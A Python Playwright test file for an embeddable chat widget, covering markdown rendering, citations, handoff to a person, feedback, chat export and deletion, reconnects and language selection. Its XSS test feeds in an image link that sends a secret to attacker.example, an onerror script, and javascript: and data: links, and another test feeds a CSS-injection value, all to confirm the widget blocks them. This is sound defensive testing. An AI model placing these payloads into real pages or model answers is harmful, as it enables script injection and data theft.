"""The embeddable widget's rendering and protocol handling, in headless Chromium.

These tests are about what the widget draws and which frames it sends, so they need neither the
server nor a model: a static page that includes a copy of `static/parley/widget.js` is served from a
local `http.server`, and `window.WebSocket` is replaced before the widget loads by a small fake
socket (a test double) that records sent frames in `window.__sent` and lets a test push server
frames with `window.__push(frame)`. The real websocket path, end to end against `manage.py serve`
and the model, is covered by tests/test_browser.py.
"""

from __future__ import annotations

import html
import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import StaticSite

pytestmark = pytest.mark.browser

WIDGET = Path(__file__).resolve().parent.parent / "static" / "parley" / "widget.js"

# Runs in the page before any of its scripts. Mirrors the WebSocket interface the widget uses.
FAKE_SOCKET = """
(() => {
  const sockets = [];
  window.__sockets = sockets;
  window.__sent = [];
  class FakeSocket extends EventTarget {
    constructor(url) {
      super();
      this.url = url;
      this.readyState = FakeSocket.CONNECTING;
      sockets.push(this);
      // window.__hold = true keeps new sockets connecting until a test calls window.__openLast().
      if (!window.__hold) setTimeout(() => this.__open(), 0);
    }
    __open() {
      if (this.readyState !== FakeSocket.CONNECTING) return;
      this.readyState = FakeSocket.OPEN;
      this.dispatchEvent(new Event("open"));
    }
    send(data) {
      if (this.readyState !== FakeSocket.OPEN) throw new Error("send on a socket that is not open");
      window.__sent.push(JSON.parse(data));
    }
    close() { window.__drop(); }
  }
  FakeSocket.CONNECTING = 0; FakeSocket.OPEN = 1; FakeSocket.CLOSING = 2; FakeSocket.CLOSED = 3;
  window.WebSocket = FakeSocket;
  const last = () => sockets[sockets.length - 1];
  window.__openLast = () => last().__open();
  window.__push = (frame) =>
    last().dispatchEvent(new MessageEvent("message", { data: JSON.stringify(frame) }));
  window.__drop = () => {
    const s = last();
    s.readyState = FakeSocket.CLOSED;
    s.dispatchEvent(new CloseEvent("close", { code: 1006 }));
  };
})();
"""

PAGE = """<!doctype html>
<html lang="{lang}"><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1"><title>Host page</title>
<script>window.__globalsBefore = Object.getOwnPropertyNames(window);</script>
</head><body><h1>A customer's page</h1>
<script src="/static/parley/widget.js" data-parley-host="{host}" data-collection="docs" {attrs}></script>
</body></html>
"""

SHADOW = "document.getElementById('parley-widget').shadowRoot"


@dataclass
class Site:
    root: Path
    url: str

    def page(self, name: str, doc_lang: str = "en", **data: str) -> str:
        """Write a host page (`<html lang=doc_lang>`) whose widget script carries `data-*`
        attributes; return its URL."""
        attrs = " ".join(
            f'data-{key.replace("_", "-")}="{html.escape(value)}"' for key, value in data.items()
        )
        (self.root / f"{name}.html").write_text(PAGE.format(lang=doc_lang, host=self.url, attrs=attrs))
        return f"{self.url}/{name}.html"


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    root = tmp_path_factory.mktemp("site")
    (root / "static" / "parley").mkdir(parents=True)
    shutil.copy(WIDGET, root / "static" / "parley" / "widget.js")
    server = StaticSite(root)
    yield Site(root, server.url)
    server.close()


@pytest.fixture
def context(browser):
    """A fresh context per test: its own localStorage. Page script errors fail the test."""
    context = browser.new_context(viewport={"width": 1200, "height": 900})
    context.add_init_script(FAKE_SOCKET)
    context.set_default_timeout(5000)
    errors: list[str] = []
    context.on("weberror", lambda error: errors.append(str(error.error)))
    yield context
    context.close()
    assert not errors, errors


def open_widget(page):
    """Click the launcher and wait until the (fake) socket is open."""
    page.locator(".parley-launcher").click()
    page.wait_for_function("window.__sockets.length && window.__sockets.at(-1).readyState === 1")


def push(page, frame: dict) -> None:
    page.evaluate("frame => window.__push(frame)", frame)


def sent(page) -> list[dict]:
    return page.evaluate("window.__sent")


def answer(page, text: str, message_id: str = "m1", citations: list | None = None, **done) -> None:
    """The server streaming an answer in small tokens, then citations and done."""
    for start in range(0, len(text), 7):
        push(page, {"type": "token", "text": text[start : start + 7]})
    if citations:
        push(page, {"type": "citations", "items": citations})
    push(page, {"type": "done", "message": message_id, "handoff": False, **done})


def widget_color(page) -> str:
    return page.evaluate(f"{SHADOW}.querySelector('.parley-root').style.getPropertyValue('--parley-color')")


def ask(page, text: str) -> None:
    page.locator(".parley-input").fill(text)
    page.locator(".parley-input").press("Enter")
    page.wait_for_function(
        "text => window.__sent.some(f => f.type === 'message' && f.text === text)", arg=text
    )


def test_answer_markdown_renders_no_image_raw_html_or_non_http_link(site, context):
    page = context.new_page()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(site.page("xss"))
    open_widget(page)
    ask(page, "show me")
    answer(
        page,
        "Here: ![x](https://attacker.example/?q=secret) and <img src=x onerror=alert(1)>\n"
        "Also [click](javascript:alert(1)) and [data](data:text/html;base64,PHNjcmlwdD4=) "
        "and [docs](https://example.com/a) with **bold** and *soft* and `code`.\n\n"
        "- first\n- second\n\n1. one\n2. two",
    )
    bubble = page.locator(".parley-bot").last
    bubble.locator("strong").wait_for()

    dom = page.evaluate(
        f"""() => {{
          const root = {SHADOW};
          return {{
            imgs: root.querySelectorAll('img').length,
            onerror: [...root.querySelectorAll('*')].filter(n => n.hasAttribute('onerror')).length,
            hrefs: [...root.querySelectorAll('a')].map(
              a => [a.getAttribute('href'), a.textContent, a.rel, a.target]),
            strong: [...root.querySelectorAll('.parley-bot strong')].map(n => n.textContent),
            em: [...root.querySelectorAll('.parley-bot em')].map(n => n.textContent),
            code: [...root.querySelectorAll('.parley-bot code')].map(n => n.textContent),
            items: [...root.querySelectorAll('.parley-bot li')].map(n => n.textContent),
            ol: root.querySelectorAll('.parley-bot ol').length,
          }};
        }}"""
    )
    assert dom["imgs"] == 0
    assert dom["onerror"] == 0
    assert dom["hrefs"] == [["https://example.com/a", "docs", "noopener noreferrer nofollow", "_blank"]]
    assert dom["strong"] == ["bold"]
    assert dom["em"] == ["soft"]
    assert dom["code"] == ["code"]
    assert dom["items"] == ["first", "second", "one", "two"]
    assert dom["ol"] == 1
    # What was not rendered as markup is still there, as literal text.
    text = bubble.inner_text()
    assert "![x](https://attacker.example/?q=secret)" in text
    assert "<img src=x onerror=alert(1)>" in text
    assert "[click](javascript:alert(1))" in text
    # Nothing was fetched from anywhere but the page's own server.
    assert requests and all(url.startswith(site.url + "/") for url in requests), requests


def test_citation_markers_link_to_their_sources(site, context):
    page = context.new_page()
    page.goto(site.page("cites"))
    open_widget(page)
    ask(page, "how do I reset?")
    answer(
        page,
        "Hold the button for 10 s [1]. Then wait [2]; see also [3].",
        citations=[
            {"n": 1, "title": "Router reset", "url": "https://docs.example.com/reset", "snippet": "Hold…"},
            {"n": 2, "title": "Status lights", "url": "/kb/lights", "snippet": "Lights…"},
            {"n": 3, "title": "Bad source", "url": "javascript:alert(1)", "snippet": "…"},
        ],
    )
    page.locator(".parley-cite").nth(1).wait_for()
    cites = page.evaluate(
        f"[...{SHADOW}.querySelectorAll('.parley-bot .parley-cite')].map(a => [a.textContent, a.href])"
    )
    assert cites == [["[1]", "https://docs.example.com/reset"], ["[2]", site.url + "/kb/lights"]]
    assert "[3]" in page.locator(".parley-bot .parley-md").last.inner_text()  # no safe url: stays text
    sources = page.locator(".parley-source")
    assert sources.count() == 3
    assert sources.first.get_attribute("href") == "https://docs.example.com/reset"


def test_talk_to_a_person_sends_handoff_and_renders_agent_notes_and_messages(site, context):
    page = context.new_page()
    page.goto(site.page("handoff"))
    open_widget(page)

    page.get_by_role("button", name="Talk to a person from our team").click()
    assert sent(page)[-1] == {"type": "handoff"}

    push(page, {"type": "handoff", "state": "queued", "agent": None})
    page.locator(".parley-note", has_text="Waiting for a person to join…").wait_for()
    assert "Waiting for a person" in page.locator(".parley-status").inner_text()
    assert page.locator(".parley-handoff").is_disabled()

    push(page, {"type": "handoff", "state": "joined", "agent": "Dana"})
    page.locator(".parley-note", has_text="Dana joined the chat").wait_for()
    assert "Dana" in page.locator(".parley-status").inner_text()

    push(page, {"type": "agent_message", "text": "Hi, I'm **here** <b>now</b>", "agent": "Dana"})
    agent_bubble = page.locator(".parley-agent").last
    assert agent_bubble.locator(".parley-agent-name").inner_text() == "Dana"
    assert agent_bubble.locator("strong").inner_text() == "here"
    assert "<b>now</b>" in agent_bubble.inner_text()

    # With a person present the visitor's message is relayed: no typing indicator, no bot bubble.
    bots_before = page.locator(".parley-bot").count()
    ask(page, "thanks!")
    assert page.locator(".parley-typing").count() == 0
    push(page, {"type": "done", "message": "u2", "handoff": False, "relayed": True})
    assert page.locator(".parley-bot").count() == bots_before
    page.wait_for_function(f"!{SHADOW}.querySelector('.parley-send').disabled")

    push(page, {"type": "handoff", "state": "bot", "agent": None})
    page.locator(".parley-note", has_text="You are back with the assistant").wait_for()
    assert page.locator(".parley-status").is_hidden()


def test_unconfident_answer_offers_an_inline_talk_to_a_person_button(site, context):
    page = context.new_page()
    page.goto(site.page("offer"))
    open_widget(page)
    ask(page, "something obscure")
    answer(page, "I am not sure about that.", message_id="m9", handoff=True)
    offer = page.locator(".parley-bot").last.locator(".parley-offer")
    assert offer.inner_text() == "Talk to a person"
    offer.click()
    assert sent(page)[-1] == {"type": "handoff"}
    assert offer.is_disabled()


def test_feedback_buttons_send_feedback_and_thank_once_saved(site, context):
    page = context.new_page()
    page.goto(site.page("feedback"))
    open_widget(page)
    ask(page, "a question")
    answer(page, "An answer.", message_id="m5")
    page.get_by_role("button", name="Not helpful").click()
    assert sent(page)[-1] == {"type": "feedback", "message": "m5", "value": -1, "comment": ""}
    push(page, {"type": "feedback_saved", "message": "m5"})
    page.locator(".parley-bot").last.get_by_text("Thanks for your feedback!").wait_for()


def test_a_visitor_downloads_then_deletes_their_chats(site, context):
    page = context.new_page()
    page.goto(site.page("privacy"))
    open_widget(page)
    ask(page, "a question")
    push(page, {"type": "conversation", "id": "c-7"})
    answer(page, "An answer.")
    page.get_by_role("button", name="Download my chats").click()
    assert sent(page)[-1] == {"type": "export"}
    with page.expect_download() as download:
        push(page, {"type": "export", "data": {"conversations": [{"id": "c-7", "messages": []}]}})
    assert download.value.suggested_filename == "my-conversations.json"
    assert page.evaluate("localStorage.getItem('parley:conversation:docs')") == "c-7"
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Delete my chats").click()
    assert sent(page)[-1] == {"type": "erase"}
    push(page, {"type": "erased", "conversations": 1})
    page.get_by_text("Your conversations were deleted.").wait_for()
    assert page.evaluate("localStorage.getItem('parley:conversation:docs')") is None
    assert page.locator(".parley-user").count() == 0


def test_history_rerenders_the_log_and_a_reload_resumes_the_stored_conversation(site, context):
    page = context.new_page()
    page.goto(site.page("history", site="acme", greeting="Welcome back"))
    open_widget(page)
    assert not any(frame["type"] == "resume" for frame in sent(page))  # nothing stored yet
    push(page, {"type": "visitor", "token": "signed.visitor.token"})
    ask(page, "first question")
    push(page, {"type": "conversation", "id": "c-42"})
    answer(page, "first answer")
    assert page.evaluate("localStorage.getItem('parley:conversation:acme')") == "c-42"
    assert page.evaluate("localStorage.getItem('parley:visitor:acme')") == "signed.visitor.token"

    page.reload()
    open_widget(page)
    assert page.evaluate("window.__sockets.at(-1).url").endswith(
        "/ws/chat/?collection=docs&site=acme&visitor=signed.visitor.token"
    )
    page.wait_for_function("window.__sent.length > 0")
    assert sent(page)[0] == {"type": "resume", "conversation": "c-42"}

    push(
        page,
        {
            "type": "history",
            "conversation": "c-42",
            "state": "joined",
            "agent": "Sam",
            "messages": [
                {"id": "u1", "role": "user", "text": "first question", "agent": None, "citations": []},
                {
                    "id": "m1",
                    "role": "assistant",
                    "text": "first **answer** [1]",
                    "agent": None,
                    "citations": [{"n": 1, "title": "Doc", "url": "https://example.com/d", "snippet": "s"}],
                },
                {"id": "a1", "role": "agent", "text": "Sam here", "agent": "Sam", "citations": []},
            ],
        },
    )
    page.locator(".parley-agent").wait_for()
    kinds = page.evaluate(
        f"[...{SHADOW}.querySelector('.parley-log').children].map(n => [n.className, n.textContent])"
    )
    assert [kind for kind, _ in kinds] == [
        "parley-msg parley-bot parley-greeting",
        "parley-msg parley-user",
        "parley-msg parley-bot",
        "parley-msg parley-agent",
    ]
    assert kinds[0][1] == "Welcome back"
    assert page.locator(".parley-bot strong").inner_text() == "answer"
    assert page.locator(".parley-cite").get_attribute("href") == "https://example.com/d"
    assert "Sam" in page.locator(".parley-status").inner_text()
    # A history frame again (a reconnect) replaces the log rather than appending to it.
    push(page, {"type": "history", "conversation": "c-42", "state": "bot", "agent": None, "messages": []})
    page.wait_for_function(f"{SHADOW}.querySelector('.parley-log').children.length === 1")


def test_error_with_retry_after_disables_send_and_puts_the_refused_text_back(site, context):
    page = context.new_page()
    page.goto(site.page("ratelimit"))
    open_widget(page)
    ask(page, "one more question")
    push(page, {"type": "error", "code": "rate_limited", "message": "Slow down a little.", "retry_after": 2})
    page.locator(".parley-error", has_text="Slow down a little.").wait_for()
    assert page.locator(".parley-input").input_value() == "one more question"
    assert page.locator(".parley-user").count() == 0
    assert page.locator(".parley-send").is_disabled()
    assert "again in" in page.locator(".parley-hint").inner_text()
    page.locator(".parley-input").press("Enter")  # ignored while cooling down
    assert len([f for f in sent(page) if f["type"] == "message"]) == 1
    page.wait_for_function(f"!{SHADOW}.querySelector('.parley-send').disabled", timeout=4000)
    assert page.locator(".parley-hint").is_hidden()


def test_unknown_conversation_forgets_the_stored_id_and_starts_afresh_silently(site, context):
    context.add_init_script(
        "try { localStorage.setItem('parley:conversation:docs', 'gone-1'); } catch (e) {}"
    )
    page = context.new_page()
    page.goto(site.page("unknown"))
    open_widget(page)
    page.wait_for_function("window.__sent.length > 0")
    assert sent(page)[0] == {"type": "resume", "conversation": "gone-1"}
    push(page, {"type": "error", "code": "unknown_conversation", "message": "No such conversation."})
    page.wait_for_function("localStorage.getItem('parley:conversation:docs') === null")
    assert page.locator(".parley-error").count() == 0
    ask(page, "fresh start")
    assert sent(page)[-1] == {"type": "message", "text": "fresh start", "conversation": None}


def test_data_title_beats_config_title_and_config_greeting_fills_in(site, context):
    page = context.new_page()
    page.goto(site.page("config", title="Page title"))
    open_widget(page)
    push(
        page,
        {
            "type": "config",
            "title": "Admin title",
            "greeting": "Hello from the admin",
            "color": "#ff0000",
            "language": "",
        },
    )
    page.locator(".parley-greeting", has_text="Hello from the admin").wait_for()
    assert page.locator(".parley-title").inner_text() == "Page title"
    assert widget_color(page) == "#ff0000"
    push(page, {"type": "config", "title": "", "greeting": "", "color": "red; background: url(x)"})
    page.locator(".parley-greeting", has_text="Hi! Ask me anything").wait_for()  # built-in default again
    assert widget_color(page) == "#2563eb"


def test_strings_follow_data_lang_then_config_language_then_document_lang(site, context):
    page = context.new_page()
    page.goto(site.page("french", doc_lang="fr-CA"))
    open_widget(page)
    assert page.locator(".parley-send").inner_text() == "Envoyer"  # the document's language
    push(page, {"type": "config", "language": "de-DE"})
    page.wait_for_function(f"{SHADOW}.querySelector('.parley-send').textContent === 'Senden'")
    assert page.locator(".parley-greeting").inner_text().startswith("Hallo!")
    assert page.locator(".parley-launcher").get_attribute("aria-label") == "Chat öffnen"

    page.goto(site.page("pinned", doc_lang="de", lang="fr"))
    open_widget(page)
    push(page, {"type": "config", "language": "de"})
    push(page, {"type": "handoff", "state": "queued", "agent": None})
    assert page.locator(".parley-send").inner_text() == "Envoyer"  # data-lang wins over the config

    page.goto(site.page("unknown-lang", doc_lang="tlh"))
    open_widget(page)
    assert page.locator(".parley-send").inner_text() == "Send"  # no table for it: English


def test_escape_closes_the_panel_and_returns_focus_to_the_launcher(site, context):
    page = context.new_page()
    page.goto(site.page("escape"))
    open_widget(page)
    panel = page.locator(".parley-panel")
    assert panel.get_attribute("role") == "dialog"
    assert panel.get_attribute("aria-modal") == "false"
    label_id = panel.get_attribute("aria-labelledby")
    assert page.evaluate(f"id => {SHADOW}.getElementById(id).textContent", label_id) == "Ask us"
    assert page.locator(".parley-log").get_attribute("role") == "log"
    assert page.locator(".parley-log").get_attribute("aria-live") == "polite"
    assert page.evaluate(f"{SHADOW}.activeElement.className") == "parley-input"  # opening focuses the input
    page.keyboard.press("Escape")
    assert panel.is_hidden()
    assert page.evaluate(f"{SHADOW}.activeElement.className") == "parley-launcher"
    assert page.locator(".parley-launcher").get_attribute("aria-expanded") == "false"


def test_open_panel_fills_a_phone_width_viewport_and_the_launcher_stays_reachable(site, context):
    page = context.new_page()
    page.set_viewport_size({"width": 375, "height": 700})
    page.goto(site.page("phone"))
    open_widget(page)
    box = page.locator(".parley-panel").bounding_box()
    assert (box["x"], box["y"], box["width"], box["height"]) == (0, 0, 375, 700)
    launcher = page.locator(".parley-launcher")
    launcher.click()  # not covered by the full-screen panel: it closes it again
    assert page.locator(".parley-panel").is_hidden()


def test_reconnects_after_a_drop_keeps_the_typed_text_and_resumes(site, context):
    page = context.new_page()
    page.goto(site.page("reconnect"))
    open_widget(page)
    ask(page, "a question")
    push(page, {"type": "conversation", "id": "c-7"})
    push(page, {"type": "token", "text": "The partial ans"})
    page.evaluate("window.__hold = true; window.__drop()")
    assert "Reconnecting" in page.locator(".parley-status").inner_text()
    assert "The partial ans" in page.locator(".parley-bot").last.inner_text()  # the partial answer stays
    page.locator(".parley-input").fill("typed while offline")
    assert page.locator(".parley-send").is_disabled()
    page.locator(".parley-input").press("Enter")  # kept, and sent once the socket is back
    assert page.locator(".parley-input").input_value() == "typed while offline"

    assert "sent when the connection is back" in page.locator(".parley-hint").inner_text()
    page.wait_for_function("window.__sockets.length === 2", timeout=3000)  # backoff starts at 0.5 s
    assert not any(f["type"] == "resume" for f in sent(page))
    page.evaluate("window.__openLast()")
    page.wait_for_function("window.__sent.some(f => f.type === 'resume')")
    resume_at = next(i for i, f in enumerate(sent(page)) if f["type"] == "resume")
    assert sent(page)[resume_at:] == [
        {"type": "resume", "conversation": "c-7"},
        {"type": "message", "text": "typed while offline", "conversation": "c-7"},
    ]
    assert page.locator(".parley-input").input_value() == ""
    assert page.locator(".parley-status").is_hidden()


def test_widget_adds_nothing_to_window(site, context):
    page = context.new_page()
    page.goto(site.page("globals"))
    open_widget(page)
    added = page.evaluate(
        "Object.getOwnPropertyNames(window)"
        ".filter(n => !window.__globalsBefore.includes(n) && n !== '__globalsBefore')"
    )
    assert added == []
